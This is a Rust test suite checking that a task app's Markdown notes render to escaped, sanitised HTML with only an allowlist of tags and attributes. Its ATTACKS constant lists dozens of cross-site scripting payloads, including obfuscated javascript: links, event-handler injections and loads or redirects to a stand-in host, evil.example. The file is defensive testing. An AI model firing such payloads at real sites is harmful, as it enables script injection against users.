//! Notes as HTML: what people mean is shown, and nothing runs.

use crate::support::{App, NewTaskRow};

async fn html(app: &App, notes: &str) -> String {
    let me = app.person().await;
    let id = NewTaskRow::titled("Task").notes(notes).add(app, &me).await;
    app.detail(&me, id).await.notes_html
}

#[tokio::test]
async fn markdown_becomes_html() {
    let app = App::new().await;
    let notes = "**bold** and *so* ~~not~~\nnext line\n\n1. one\n2. two\n\n`a < b`";
    let html = html(&app, notes).await;
    for part in
        ["<strong>bold</strong>", "<em>so</em>", "<del>not</del><br>", "<ol>\n<li>one</li>", "<code>a &lt; b</code>"]
    {
        assert!(html.contains(part), "{part} in {html}");
    }
}

#[tokio::test]
async fn html_is_shown_as_it_was_typed() {
    let app = App::new().await;
    assert_eq!(html(&app, "use <b>bold</b>").await, "<p>use &lt;b&gt;bold&lt;/b&gt;</p>\n");
    assert_eq!(html(&app, "<div class=x>\n").await, "&lt;div class=x&gt;");
}

#[tokio::test]
async fn links_lead_to_known_schemes_and_say_what_they_are() {
    let app = App::new().await;
    let html = html(&app, "[a](https://example.org/?a=1&b=2) [b](mailto:a@example.org) <http://example.org>").await;
    assert_eq!(html.matches("rel=\"nofollow noopener\"").count(), 3, "{html}");
    assert!(html.contains("href=\"https://example.org/?a=1&amp;b=2\""), "{html}");
}

/// Each would run somewhere if notes were not escaped and sanitised.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x\" onerror=\"alert(1)](x)",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](/sign-out)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n[x]",
    "[x](https://example.org \"onmouseover=alert(1)\")",
    "[x](https://example.org/\"onmouseover=\"alert(1))",
    "<style>@import 'https://evil.example';</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<form action=/api/delete_account><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example>",
    "<!--><script>alert(1)</script>-->",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "```<script>\nalert(1)\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "`<script>alert(1)</script>`",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<x onclick=alert(1) id=x class=y>z</x>",
    "| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |",
];

#[tokio::test]
async fn nothing_in_notes_runs() {
    let app = App::new().await;
    let allowed = [
        "a",
        "blockquote",
        "br",
        "code",
        "del",
        "em",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "li",
        "ol",
        "p",
        "pre",
        "strong",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
    ];
    for attack in ATTACKS {
        let html = html(&app, attack).await;
        for tag in html.split('<').skip(1) {
            let tag = tag.split_once('>').unwrap_or_else(|| panic!("{attack}: {html}")).0;
            let mut words = tag.trim_start_matches('/').split_whitespace();
            assert!(allowed.contains(&words.next().unwrap()), "{attack}: {html}");
            for attribute in words.filter(|_| !tag.starts_with('/')) {
                let known = attribute.starts_with("href=\"http")
                    || ["rel=\"nofollow", "noopener\"", "start="].iter().any(|a| attribute.starts_with(a));
                assert!(known, "{attack}: {html}");
            }
        }
    }
}

#[tokio::test]
async fn endless_nesting_does_not_hurt() {
    let app = App::new().await;
    for unit in [">", "[", "- ", "*", "_", "`", "![", "<a>", "&", "1. ", "|", "\n> ", "[a](", "**a "] {
        let notes: String = unit.chars().cycle().take(19_999).collect();
        let started = std::time::Instant::now();
        html(&app, &format!("x{notes}")).await;
        html(&app, &notes).await;
        assert!(started.elapsed().as_secs() < 20, "{unit}");
    }
}
